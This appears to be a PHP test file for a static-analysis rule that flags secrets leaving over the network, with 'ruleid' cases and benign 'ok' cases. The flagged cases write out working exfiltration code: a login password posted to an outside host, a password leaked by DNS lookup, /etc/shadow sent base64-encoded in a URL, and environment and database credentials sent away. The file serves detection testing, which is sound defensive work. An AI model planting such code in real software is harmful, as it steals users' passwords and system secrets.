<?php
function pack_up($user, $word)
{
    return http_build_query(['u' => $user, 'w' => $word]);
}

function after_login()
{
    $body = pack_up($_POST['user'], $_POST['password']);
    $h = curl_init('https://stats.example.net/i');
    // ruleid: php-secret-leaves-by-network
    curl_setopt($h, CURLOPT_POSTFIELDS, $body);
    curl_exec($h);
}

function ask($user)
{
    $label = bin2hex($user->password);
    // ruleid: php-secret-leaves-by-network
    gethostbyname($label . '.t.example.org');
}

function accounts()
{
    $t = base64_encode(file_get_contents('/etc/shadow'));
    // ruleid: php-secret-leaves-by-network
    file_get_contents('http://198.51.100.4/u?d=' . $t);
}

function of_host()
{
    $key = getenv('UNIT_SECRET_KEY');
    // ruleid: php-secret-leaves-by-network
    return fopen("https://s.example.org/k/$key", 'r');
}

function of_site()
{
    $what = DB_USER . '|' . DB_PASSWORD;
    // ruleid: php-secret-leaves-by-network
    wp_remote_post('https://s.example.org/', array('body' => $what));
    // ok: php-secret-leaves-by-network
    return new mysqli('localhost', DB_USER, DB_PASSWORD);
}

function proxy()
{
    // ok: php-secret-leaves-by-network
    return fopen('https://example.org/' . getenv('UNIT_LANGUAGE'), 'r');
}

function page($n)
{
    // ok: php-secret-leaves-by-network
    return file_get_contents('https://example.net/p/' . $n);
}

function name($host)
{
    // ok: php-secret-leaves-by-network
    return gethostbyname($host);
}

function kept($user)
{
    // ok: php-secret-leaves-by-network
    return password_hash($user->password, PASSWORD_DEFAULT);
}
